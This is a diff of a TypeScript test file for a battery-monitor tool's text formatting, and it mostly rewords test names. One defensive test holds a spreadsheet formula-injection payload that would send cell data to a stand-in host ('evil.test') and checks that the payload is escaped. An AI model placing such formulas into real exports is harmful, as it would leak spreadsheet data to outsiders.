@@ -2,7 +2,7 @@ import { expect, it, test } from 'vitest';
 import type { PackedBytes, TransactionRow } from '@batbot/core';
 import { linesOf, outcomeWords, rowText, saysText, valuesText } from './transaction-words.ts';
 
-const packed = (text: string): PackedBytes => text as PackedBytes; // ASCII: each character is one byte
+const packed = (text: string): PackedBytes => text as PackedBytes; // in ASCII each character is one byte
 
 const row = (change: Partial<TransactionRow> = {}): TransactionRow => ({
   id: 1,
@@ -19,7 +19,7 @@ const row = (change: Partial<TransactionRow> = {}): TransactionRow => ({
   ...change,
 });
 
-test('[TERM-161] values are shown in short; unreported values are left out', () => {
+test('[TERM-161] values are shown in a short form, and unreported values are omitted', () => {
   const values = { packVoltageV: 13.211, currentA: -12.4, socPercent: 78.5, cells: 4, faults: 0 };
   expect(valuesText({ ...values, lowestV: 3.302, highestV: 3.304 })).toBe(
     '13.21 V · −12.4 A · SoC 78.5 % · 4 cells 3.302–3.304 V',
@@ -27,7 +27,7 @@ test('[TERM-161] values are shown in short; unreported values are left out', () 
   expect(valuesText({ cells: 0, faults: 2, socPercent: 20 })).toBe('SoC 20.0 % · ▲ 2 faults');
 });
 
-test('[TERM-161] each ending has its glyph and word', () => {
+test('[TERM-161] each outcome has its glyph and word', () => {
   expect(saysText(row({ outcome: 'timeout', late: { bytes: packed('OK'), afterMs: 2_512 } }))).toBe(
     '2 bytes came after 2.5\u202Fs',
   );
@@ -57,15 +57,15 @@ test('[TERM-161] each ending has its glyph and word', () => {
   ]);
 });
 
-test('[TERM-161] a row is copied as one line of columns', () => {
+test('[TERM-161] a row is copied as one line with tab-separated columns', () => {
   expect(rowText(row())).toBe('07:05:09.012\tATI\t12\tOK\tACME · HW:2.1');
 });
 
-test('[SE-33] a copied row holds no formula for a spreadsheet', () => {
+test('[SE-33] a copied row contains no formula for a spreadsheet', () => {
   const text = '=HYPERLINK("http://evil.test/?"&A1)';
   expect(rowText({ ...row(), text })).toContain(`\t'${text}\t`);
 });
 
-it('bytes as text hide nothing and drop empty lines', () => {
+it('bytes are shown as text with control characters as dots, without empty lines', () => {
   expect(linesOf(packed('\r\nAB\u0001\r\n\r\nOK\r\n'))).toEqual(['AB·', 'OK']);
 });
